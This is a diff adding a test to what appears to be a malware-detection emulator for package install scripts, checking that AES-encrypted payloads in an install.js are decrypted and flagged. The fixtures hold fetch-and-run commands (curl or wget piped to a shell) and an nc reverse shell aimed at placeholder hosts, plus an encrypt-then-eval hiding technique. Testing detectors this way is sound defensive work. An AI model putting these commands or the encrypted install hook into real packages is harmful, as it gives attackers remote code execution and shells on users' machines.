@@ -3,6 +3,7 @@
  * and inert (hosts are .invalid, example.com or 192.0.2.x documentation addresses) and runs only inside
  * QuickJS; nothing here executes on the host.
  */
+import { createCipheriv } from 'node:crypto';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { emulatePackage, loadEmulator, shouldEmulate, type EmulationEntry } from '../../src/emulate/index.js';
 import type { Effect } from '../../src/inspect/effects/types.js';
@@ -52,6 +53,28 @@ describe('decoders', () => {
     const execs = of(r.effects, 'exec', 'linux');
     expect(execs.find((e) => e.command === undefined && e.origin === 'decoded')?.evidence).toContain("eval(\"require('child_process')");
     expect(execs.find((e) => e.command === 'wget -q http://192.0.2.44/p -O- | sh')?.decoded).toBe(true);
+  });
+
+  it('decrypts an AES-hidden payload (cbc, ctr, gcm) and runs it', () => {
+    const key = Buffer.alloc(32, 7);
+    const iv = Buffer.alloc(16, 3);
+    const enc = (alg: string, text: string, ivb: Buffer) => {
+      const c = createCipheriv(alg, key, ivb);
+      return Buffer.concat([c.update(text), c.final()]).toString('base64');
+    };
+    const cbc = enc('aes-256-cbc', "require('child_process').execSync('curl -fsSL https://aes-cbc.invalid/i | bash')", iv);
+    const ctr = enc('aes-256-ctr', "require('child_process').execSync('nc 192.0.2.77 4444 -e /bin/sh')", iv);
+    const gcm = enc('aes-256-gcm', "require('child_process').execSync('wget https://aes-gcm.invalid/m')", iv.subarray(0, 12));
+    const src = `
+      const c = require('crypto'); const k = Buffer.alloc(32, 7);
+      function open(alg, b64, iv) { const d = c.createDecipheriv(alg, k, iv); return d.update(b64, 'base64', 'utf8') + d.final('utf8'); }
+      eval(open('aes-256-cbc', '${cbc}', Buffer.alloc(16, 3)));
+      eval(open('aes-256-ctr', '${ctr}', Buffer.alloc(16, 3)));
+      eval(open('aes-256-gcm', '${gcm}', Buffer.alloc(12, 3)));`;
+    const r = run({ 'install.js': src }, [{ file: 'install.js', reach: 'install' }]);
+    const cmds = of(r.effects, 'exec', 'linux').map((e) => e.command).filter(Boolean);
+    expect(cmds).toEqual(['curl -fsSL https://aes-cbc.invalid/i | bash', 'nc 192.0.2.77 4444 -e /bin/sh', 'wget https://aes-gcm.invalid/m']);
+    expect(of(r.effects, 'encode', 'linux')[0].evidence).toContain("createDecipheriv(\"aes-256-cbc\")");
   });
 
   it('marks code that came from the network as downloaded when it reaches eval or a written file that is run', () => {
